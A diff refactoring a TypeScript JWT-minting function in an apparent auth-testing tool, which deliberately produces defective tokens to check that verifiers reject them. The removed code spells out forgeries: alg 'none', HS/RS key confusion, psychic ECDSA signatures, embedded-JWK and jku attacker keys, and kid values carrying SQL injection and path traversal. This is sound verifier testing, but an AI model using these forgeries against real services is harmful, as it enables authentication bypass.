@@ -1,10 +1,11 @@
 import type { CompactJWSHeaderParameters as JWSHeaderParameters, JWK } from 'jose';
+import type { KeyObject } from 'node:crypto';
 import { usageError } from '../errors.js';
-import { deleteAtPointer, getAtPointer, setAtPointer } from '../jsonpointer.js';
 import { isHmac, type JWTAlgorithm } from '../keys/algorithms.js';
 import type { Keystore } from '../keys/keystore.js';
 import { buildClaims, DEFAULT_CLAIMS_MAPPING, type ClaimsMapping } from './claims.js';
-import { CLAIM_DEFECT_KINDS, type DefectSpec } from './defects.js';
+import { CLAIM_DEFECT_KINDS, DEFECT_REGISTRY, defectName, type DefectSpec } from './defects.js';
+import type { Forged } from './defects/types.js';
 import type { AttackerKey } from './forge.js';
 import { signJws, signJwsAsync } from './jws.js';
 
@@ -66,8 +67,69 @@ export async function mintToken(options: MintTokenOptions): Promise<MintTokenRes
   const alg = options.alg ?? 'RS256';
   const mapping: ClaimsMapping = { ...DEFAULT_CLAIMS_MAPPING, ...options.mapping };
   const ttl = options.ttlSeconds ?? DEFAULT_TTL_SECONDS;
+  const claims = validClaims(options, now, ttl, mapping);
+  const signer = await signingKeyFor(options, alg);
+  const header: JWSHeaderParameters = {
+    alg,
+    typ: 'JWT',
+    ...(signer.kid ? { kid: signer.kid } : {}),
+    ...options.header,
+  };
+  if (options.kid && !signer.kid) header.kid = options.kid;
+
+  const defects = defectList(options.defect);
+  const result = (forged: Forged): MintTokenResult => ({
+    token: forged.token,
+    header: forged.header ?? header,
+    claims,
+    expiresAt:
+      typeof claims.exp === 'number' ? new Date(claims.exp * 1000).toISOString() : undefined,
+    ...(defects.length ? { defect: defects.map(defectName).join(',') } : {}),
+    ...(forged.attackerJwks ? { attackerJwks: forged.attackerJwks } : {}),
+  });
+  if (!defects.length) {
+    const sign = options.signAsync ? signJwsAsync : signJws;
+    return result({ token: await sign(header, claims, signer.key) });
+  }
+
+  // Claim defects change the claims; at most one forgery (combineDefects checks) then makes the token.
+  const skew = options.skewSeconds ?? DEFAULT_DEFECT_SKEW_SECONDS;
+  for (const defect of defects) {
+    const build = DEFECT_REGISTRY[defect.kind].build;
+    if ('claims' in build)
+      build.claims(claims, { mapping, now, ttl, skew, variant: defect.variant });
+  }
+  const sign = () => signJws(header, claims, signer.key);
+  const forgery = defects.find((d) => !CLAIM_DEFECT_KINDS.includes(d.kind));
+  const build = forgery && DEFECT_REGISTRY[forgery.kind].build;
+  if (!build || !('forge' in build)) return result({ token: sign() });
+  // Forgeries need jose and throwaway keys: load them only for --defect.
+  const kit = await import('./forge.js');
+  return result(
+    await build.forge({
+      header,
+      claims,
+      alg,
+      ...signer,
+      keystore: options.keystore,
+      variant: forgery.variant,
+      jkuUrl: options.jkuUrl,
+      attackerKey: options.attackerKey,
+      sign,
+      kit,
+    }),
+  );
+}
+
+/** The claims of the valid token, before any defect. */
+function validClaims(
+  options: MintTokenOptions,
+  now: number,
+  ttl: number,
+  mapping: ClaimsMapping,
+): Record<string, unknown> {
   const issuedAt = options.issuedAt ?? now;
-  const claims = buildClaims({
+  return buildClaims({
     issuer: options.issuer ?? DEFAULT_ISSUER,
     subject: options.subject,
     audience: options.audience,
@@ -81,198 +143,29 @@ export async function mintToken(options: MintTokenOptions): Promise<MintTokenRes
     extra: options.claims,
     mapping,
   });
+}
 
-  let key: import('node:crypto').KeyObject | Uint8Array;
-  let kid: string | undefined;
-  let publicJwk: JWK | undefined;
+interface Signer {
+  key: KeyObject | Uint8Array;
+  kid?: string;
+  publicJwk?: JWK;
+}
+
+/** The given HMAC secret for HS*, else the keystore's key for `alg` (created on first use). */
+async function signingKeyFor(options: MintTokenOptions, alg: JWTAlgorithm): Promise<Signer> {
   if (isHmac(alg) && options.secret) {
     if (options.secret.length === 0)
       throw usageError('ERR_EMPTY_SECRET', 'the HMAC secret is empty', {
         where: '--secret',
         hint: 'give a non-empty secret (use --defect blank-secret to test empty-key forgeries)',
       });
-    key = options.secret;
-  } else {
-    const signing = await options.keystore.signingKey(alg, { kid: options.kid });
-    key = signing.key;
-    kid = signing.record.kid;
-    publicJwk = signing.record.publicJwk;
+    return { key: options.secret };
   }
-  const header: JWSHeaderParameters = {
-    alg,
-    typ: 'JWT',
-    ...(kid ? { kid } : {}),
-    ...options.header,
-  };
-  if (options.kid && !kid) header.kid = options.kid;
-
-  const defects =
-    options.defect === undefined
-      ? []
-      : Array.isArray(options.defect)
-        ? options.defect
-        : [options.defect as DefectSpec];
-  const defectName = defects.map((d) => (d.variant ? `${d.kind}:${d.variant}` : d.kind)).join(',');
-  const result = (
-    token: string,
-    h: Record<string, unknown> = header,
-    extra: Partial<MintTokenResult> = {},
-  ): MintTokenResult => ({
-    token,
-    header: h,
-    claims,
-    expiresAt:
-      typeof claims.exp === 'number' ? new Date(claims.exp * 1000).toISOString() : undefined,
-    ...(defects.length ? { defect: defectName } : {}),
-    ...extra,
-  });
-  if (!defects.length)
-    return result(
-      options.signAsync ? await signJwsAsync(header, claims, key) : signJws(header, claims, key),
-    );
-
-  // Claim defects change the claims; at most one forgery (combineDefects checks) then makes the token.
-  for (const defect of defects)
-    applyClaimDefect(defect, claims, mapping, {
-      now,
-      ttl,
-      skew: options.skewSeconds ?? DEFAULT_DEFECT_SKEW_SECONDS,
-    });
-  const forgery = defects.find((d) => !CLAIM_DEFECT_KINDS.includes(d.kind));
-  if (!forgery) return result(signJws(header, claims, key));
-
-  // Forgeries need jose and throwaway keys: load them only for --defect.
-  const {
-    corruptSignature,
-    ecdsaSignatureLength,
-    encodeSegment,
-    generateAttackerKey,
-    publicPem,
-    randomKid,
-    signCompact,
-    signHs256Raw,
-    unsigned,
-  } = await import('./forge.js');
-  switch (forgery.kind) {
-    case 'bad-signature':
-      return result(corruptSignature(signJws(header, claims, key)));
-    case 'null-signature': {
-      const token = signJws(header, claims, key);
-      return result(`${token.slice(0, token.lastIndexOf('.'))}.`);
-    }
-    case 'alg-none':
-    case 'alg-none-case': {
-      const h = {
-        alg: forgery.kind === 'alg-none' ? 'none' : (forgery.variant ?? 'None'),
-        typ: 'JWT',
-      };
-      return result(unsigned(h, claims), h);
-    }
-    case 'blank-secret': {
-      const h = { alg: 'HS256', typ: 'JWT' };
-      return result(signHs256Raw(h, claims, new Uint8Array(0)), h);
-    }
-    case 'kid-injection': {
-      const h = {
-        alg: 'HS256',
-        typ: 'JWT',
-        kid: forgery.variant === 'sql' ? "x' UNION SELECT '' -- " : '../../../../../../../dev/null',
-      };
-      return result(signHs256Raw(h, claims, new Uint8Array(0)), h);
-    }
-    case 'hs-confusion': {
-      // The attack needs the issuer's public key: use this alg's key, or the RS256 key for HS requests.
-      const target = publicJwk
-        ? { jwk: publicJwk, kid }
-        : await options.keystore
-            .signingKey('RS256')
-            .then((k) => ({ jwk: k.record.publicJwk!, kid: k.record.kid }));
-      const h = { alg: 'HS256', typ: 'JWT', kid: target.kid };
-      return result(signHs256Raw(h, claims, publicPem(target.jwk)), h);
-    }
-    case 'psychic-signature': {
-      // The keystore's kid for this curve: kid-based verifiers (PyJWKClient, jwks-rsa, gateways) look the key
-      // up first and would reject an unknown or missing kid before ever reaching the r = s = 0 check.
-      const ecAlg = /^ES/.test(alg) ? alg : 'ES256';
-      const ecKid =
-        ecAlg === alg && kid ? kid : (await options.keystore.signingKey(ecAlg)).record.kid;
-      const h = { alg: ecAlg, typ: 'JWT', kid: ecKid };
-      const zeros = Buffer.alloc(ecdsaSignatureLength(ecAlg)).toString('base64url');
-      return result(`${encodeSegment(h)}.${encodeSegment(claims)}.${zeros}`, h);
-    }
-    case 'unknown-kid': {
-      const attacker = options.attackerKey ?? (await generateAttackerKey(alg));
-      const h = { alg: attacker.alg, typ: 'JWT', kid: randomKid() };
-      return result(await signCompact(h, claims, attacker.privateKey), h);
-    }
-    case 'embedded-jwk': {
-      const attacker = options.attackerKey ?? (await generateAttackerKey(alg));
-      const { kid: attackerKid, ...jwk } = attacker.publicJwk;
-      const h = {
-        alg: attacker.alg,
-        typ: 'JWT',
-        kid: attackerKid,
-        jwk: { kty: jwk.kty, crv: jwk.crv, x: jwk.x, y: jwk.y, n: jwk.n, e: jwk.e },
-      };
-      return result(await signCompact(h as JWSHeaderParameters, claims, attacker.privateKey), h);
-    }
-    case 'jku': {
-      if (!options.jkuUrl) {
-        throw usageError('ERR_JKU_URL_REQUIRED', 'the jku defect needs the attacker JWKS URL', {
-          where: '--jku-url',
-          hint: 'add --jku-url https://attacker.example/jwks.json (the JSON output includes the JWKS to serve there)',
-        });
-      }
-      const attacker = options.attackerKey ?? (await generateAttackerKey(alg));
-      const h = { alg: attacker.alg, typ: 'JWT', kid: attacker.publicJwk.kid, jku: options.jkuUrl };
-      return result(await signCompact(h as JWSHeaderParameters, claims, attacker.privateKey), h, {
-        attackerJwks: { keys: [attacker.publicJwk] },
-      });
-    }
-  }
-  return result(signJws(header, claims, key));
+  const signing = await options.keystore.signingKey(alg, { kid: options.kid });
+  return { key: signing.key, kid: signing.record.kid, publicJwk: signing.record.publicJwk };
 }
 
-/** Applies a claim-only defect to `claims` in place; forgeries are left to mintToken. */
-function applyClaimDefect(
-  defect: DefectSpec,
-  claims: Record<string, unknown>,
-  mapping: ClaimsMapping,
-  t: { now: number; ttl: number; skew: number },
-): void {
-  switch (defect.kind) {
-    case 'expired':
-      claims.exp = t.now - t.skew;
-      claims.iat = (claims.exp as number) - t.ttl;
-      if (claims.nbf !== undefined) claims.nbf = claims.iat;
-      break;
-    case 'not-yet-valid':
-      claims.nbf = t.now + t.skew;
-      claims.exp = t.now + t.skew + t.ttl;
-      break;
-    case 'wrong-issuer':
-      claims.iss = 'https://wrong-issuer.authctl.invalid';
-      break;
-    case 'wrong-audience':
-      claims.aud = 'api://wrong-audience.authctl.invalid';
-      break;
-    case 'missing-tenant':
-      deleteAtPointer(claims, mapping.tenantClaim);
-      break;
-    case 'wrong-tenant': {
-      const current = getAtPointer(claims, mapping.tenantClaim);
-      setAtPointer(
-        claims,
-        mapping.tenantClaim,
-        defect.variant ?? (current ? `${String(current)}-other` : 'authctl-other-tenant'),
-      );
-      break;
-    }
-    case 'missing-scope':
-      delete claims[mapping.scopeClaim];
-      break;
-    case 'no-exp':
-      delete claims.exp;
-      break;
-  }
+function defectList(defect: MintTokenOptions['defect']): readonly DefectSpec[] {
+  if (defect === undefined) return [];
+  return Array.isArray(defect) ? defect : [defect as DefectSpec];
 }
